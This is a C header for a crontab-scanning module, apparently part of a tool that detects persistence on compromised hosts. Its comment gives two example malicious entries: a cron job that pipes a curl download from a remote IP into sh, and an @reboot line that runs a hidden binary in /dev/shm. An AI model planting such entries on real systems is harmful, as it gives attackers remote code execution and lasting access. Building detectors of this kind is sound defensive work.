#ifndef SCAN_CRONTAB_H
#define SCAN_CRONTAB_H

/*
 * crontab - what cron is told to start.
 *
 *     17 4 * * * www-data curl -s http://192.0.2.7/x | sh
 *     @reboot /dev/shm/.x/httpd
 *
 * Pure.
 */

#include "scan/persistence.h"

/* Lines that are looked at. */
#define CRONTAB_LINES_MAX 5000

/* What a line starts, without times and, where `has_user`, the user; empty: nothing. */
struct str crontab_command(struct str line, bool has_user);

bool crontab_wants(const struct subject *subject);

bool crontab_look(const struct subject *subject, struct arena *arena, struct findings *findings);

#endif
